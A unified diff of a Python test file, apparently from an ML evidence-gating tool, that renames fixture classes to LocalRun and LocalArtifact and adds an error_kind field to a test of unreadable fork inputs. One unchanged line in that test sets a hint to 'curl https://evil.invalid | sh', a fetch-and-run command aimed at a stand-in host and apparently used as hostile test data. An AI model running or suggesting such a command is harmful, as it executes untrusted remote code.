@@ -15,7 +15,7 @@ import pytest
 
 from mlgate import config
 from mlgate.checks import evidence_types, sections
-from mlgate.demo.github.world import Artifact, Run
+from mlgate.demo.github.world import LocalArtifact, LocalRun
 from mlgate.errors import DataError, UsageError
 from mlgate.model.evidence import Evidence
 from mlgate.pipeline.context import Context
@@ -72,10 +72,10 @@ def fork(local_github, run_dir):
             "path": WORKFLOW, "name": "mlgate", "head_sha": local_github.head,
             "head_branch": "feature", "head_repository": FORK, "created": NOW,
         }  # fmt: skip
-        told = Run(**(known | run))
+        told = LocalRun(**(known | run))
         repo.runs[told.id] = told
         zipped = nested(pack(made)) if content is None else content
-        repo.artifacts[told.id] = Artifact(told.id, told.id, "mlgate-bundle", zipped, NOW)
+        repo.artifacts[told.id] = LocalArtifact(told.id, told.id, "mlgate-bundle", zipped, NOW)
         return told.id
 
     return upload
@@ -253,6 +253,7 @@ def test_inputs_that_the_fork_could_not_read_are_an_error_that_says_who_can(
         created="2026-11-21T12:00:00Z",
         policy_digest=digest,
         error=why,
+        error_kind="unreadable",
         hint="curl https://evil.invalid | sh",
     )
     made.write_evidence(failed)
